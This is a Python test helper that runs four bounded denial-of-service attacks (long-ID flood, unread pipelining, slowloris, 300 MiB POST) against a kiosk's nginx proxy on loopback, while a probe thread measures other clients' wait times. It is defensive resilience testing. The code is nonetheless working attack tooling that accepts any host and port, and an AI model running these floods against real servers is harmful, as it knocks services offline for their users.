"""What one phone on the kiosk's Wi-Fi could do to stop every other phone (issue 18, 1-4), and a probe that
measures how long everyone else waits meanwhile. Imported by name (like support.py) by test_proxy.py;
`python tests/attacks.py HOST PORT` runs all four against any server and prints the figures.

Every attack sends only to the address it is given (loopback in the tests), is bounded in count and time,
and stops by itself. Each client binds its own loopback source address (127.0.0.0/8), so nginx sees the
attacker, the probe and the kiosk's own screen (127.0.0.1) as different phones.
"""

from __future__ import annotations

import contextlib
import http.client
import random
import socket
import string
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

ATTACKER = "127.0.0.2"
PROBE = "127.0.0.3"
PROBE_PATHS = ("/api/v1/health", "/vi/", "/api/v1/agencies?q=hoang&limit=5")


@dataclass
class Probe:
    """A phone that asks for a page every ``every`` seconds while an attack runs; ``worst`` is its longest
    wait for a whole answer (a failure or time-out counts as ``timeout``)."""

    host: str
    port: int
    source: str = PROBE
    every: float = 0.2
    timeout: float = 10.0
    times: list = field(default_factory=list)
    failures: list = field(default_factory=list)

    def __post_init__(self):
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> Probe:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(self.timeout + 5)

    @property
    def worst(self) -> float:
        return max(self.times, default=0.0)

    def _run(self) -> None:
        n = 0
        while not self._stop.is_set():
            path = PROBE_PATHS[n % len(PROBE_PATHS)]
            n += 1
            start = time.monotonic()
            try:
                conn = http.client.HTTPConnection(
                    self.host, self.port, timeout=self.timeout, source_address=(self.source, 0)
                )
                conn.request("GET", path)
                response = conn.getresponse()
                response.read()
                conn.close()
                if response.status != 200:
                    self.failures.append((path, response.status))
                self.times.append(time.monotonic() - start)
            except OSError as exc:
                self.failures.append((path, repr(exc)))
                self.times.append(max(time.monotonic() - start, self.timeout))
            self._stop.wait(self.every)


def _socket(host: str, port: int, source: str, timeout: float = 10.0, rcvbuf: int | None = None):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.settimeout(timeout)
    s.bind((source, 0))
    s.connect((host, port))
    return s


def random_letters(n: int, rng: random.Random) -> str:
    return "".join(rng.choice(string.ascii_letters) for _ in range(n))


def long_ids(host: str, port: int, seconds: float, phones: int = 8, letters: int = 1200) -> dict:
    """Attack 1: ``phones`` clients, each from its own address, ask for ``/api/v1/agencies/<letters random
    letters>`` as fast as they are answered, for ``seconds``. Returns the statuses seen and the slowest
    answer."""
    statuses: dict[int, int] = {}
    slowest = [0.0]
    lock = threading.Lock()
    deadline = time.monotonic() + seconds

    def phone(n: int) -> None:
        rng = random.Random(n)
        conn = None
        while time.monotonic() < deadline:
            try:
                if conn is None:
                    conn = http.client.HTTPConnection(
                        host, port, timeout=10, source_address=(f"127.0.1.{n + 1}", 0)
                    )
                start = time.monotonic()
                conn.request("GET", "/api/v1/agencies/" + random_letters(letters, rng))
                response = conn.getresponse()
                response.read()
                took = time.monotonic() - start
                with lock:
                    statuses[response.status] = statuses.get(response.status, 0) + 1
                    slowest[0] = max(slowest[0], took)
                if response.will_close:
                    conn.close()
                    conn = None
            except OSError:
                with lock:
                    statuses[0] = statuses.get(0, 0) + 1
                if conn is not None:
                    conn.close()
                conn = None
        if conn is not None:
            conn.close()

    threads = [threading.Thread(target=phone, args=(n,), daemon=True) for n in range(phones)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(seconds + 15)
    return {"statuses": statuses, "slowest": slowest[0]}


def pipeline(host: str, port: int, seconds: float, requests: int = 300, connections: int = 1) -> dict:
    """Attack 2: each connection sends ``requests`` pipelined ``GET /api/v1/agencies?limit=200`` at once
    and never reads an answer, for ``seconds``. Returns how many connections the server closed itself."""
    one = b"GET /api/v1/agencies?limit=200 HTTP/1.1\r\nHost: kiosk\r\n\r\n"
    socks = []
    for _ in range(connections):
        s = _socket(host, port, ATTACKER, timeout=2.0, rcvbuf=4096)
        with contextlib.suppress(OSError):
            s.sendall(one * requests)
        socks.append(s)
    time.sleep(seconds)
    closed = 0
    for s in socks:
        # Whatever is waiting is read now only to learn whether the server hung up.
        s.setblocking(False)
        try:
            while True:
                chunk = s.recv(1 << 20)
                if not chunk:
                    closed += 1
                    break
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        s.close()
    return {"closed_by_server": closed, "connections": connections}


def slowloris(host: str, port: int, seconds: float, connections: int = 520, every: float = 2.0) -> dict:
    """Attack 3: ``connections`` connections each send a request line, then one header line every
    ``every`` seconds and never finish, for ``seconds``. Returns how many the server closed."""
    socks = []
    for i in range(connections):
        try:
            s = _socket(host, port, ATTACKER, timeout=2.0)
            s.sendall(f"GET /vi/?n={i} HTTP/1.1\r\nHost: kiosk\r\n".encode())
            socks.append(s)
        except OSError:
            break
    opened = len(socks)
    closed: set[int] = set()
    deadline = time.monotonic() + seconds
    n = 0
    while time.monotonic() < deadline:
        time.sleep(min(every, max(0.0, deadline - time.monotonic())))
        n += 1
        for i, s in enumerate(socks):
            if i in closed:
                continue
            try:
                s.sendall(f"X-Slow-{n}: {n}\r\n".encode())
            except OSError:
                closed.add(i)
    for s in socks:
        s.close()
    return {"opened": opened, "closed_by_server": len(closed)}


def big_post(
    host: str, port: int, size: int = 300 * 1024 * 1024, seconds: float = 20.0, chunked=False
) -> dict:
    """Attack 4: a POST announcing (or, chunked, streaming) ``size`` bytes, sent as fast as the server takes
    them for at most ``seconds``. Returns the status the server answered with, how many bytes it took
    first and how long until it answered."""
    s = _socket(host, port, ATTACKER, timeout=5.0)
    length = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {size}"
    s.sendall(
        f"POST /api/v1/check-offer HTTP/1.1\r\nHost: kiosk\r\nContent-Type: application/json\r\n{length}\r\n\r\n".encode()
    )
    block = b"0" * 65536
    piece = b"%x\r\n%s\r\n" % (len(block), block) if chunked else block
    start = time.monotonic()
    sent = 0
    answer = b""
    s.setblocking(False)
    while sent < size and time.monotonic() - start < seconds:
        try:
            chunk = s.recv(65536)
            if not chunk:
                break
            answer += chunk
            if b"\r\n" in answer:
                break
        except BlockingIOError:
            pass
        except OSError:
            break
        try:
            sent += s.send(piece)
        except BlockingIOError:
            time.sleep(0.005)
        except OSError:
            break
    took = time.monotonic() - start
    if b"\r\n" not in answer:
        s.setblocking(True)
        s.settimeout(5)
        with contextlib.suppress(OSError):
            answer += s.recv(65536)
    s.close()
    status = int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/") else 0
    return {"status": status, "sent": sent, "seconds": took}


def rss(pid: int) -> tuple[float, float]:
    """(current, peak) resident memory of process ``pid`` in MiB."""
    fields = dict(
        line.split(":", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines() if ":" in line
    )
    kib = {k: int(v.split()[0]) for k, v in fields.items() if k in ("VmRSS", "VmHWM")}
    return kib["VmRSS"] / 1024, kib["VmHWM"] / 1024


def main(argv: list[str]) -> None:
    """`python tests/attacks.py HOST PORT [PID [N]]`: each attack (or attack N alone) with the probe running,
    and the figures (the server's memory too, given its process id)."""
    host, port = argv[0], int(argv[1])
    pid = int(argv[2]) if len(argv) > 2 else None
    only = argv[3] if len(argv) > 3 else ""
    runs = {
        "1 long ids": lambda: long_ids(host, port, 8),
        "2 pipelining non-reader": lambda: pipeline(host, port, 12),
        "3 slowloris": lambda: slowloris(host, port, 14),
        "4 300 MiB POST": lambda: big_post(host, port),
    }
    for name, attack in runs.items():
        if only and not name.startswith(only):
            continue
        with Probe(host, port) as probe:
            time.sleep(0.5)
            result = attack()
            time.sleep(0.5)
        memory = f" server RSS {rss(pid)[0]:.0f} MiB, peak {rss(pid)[1]:.0f} MiB" if pid else ""
        print(
            f"{name}: probe worst {probe.worst:.2f} s over {len(probe.times)} asks, "
            f"{len(probe.failures)} failed; attack {result};{memory}",
            flush=True,
        )
        time.sleep(2)


if __name__ == "__main__":
    import sys

    main(sys.argv[1:])
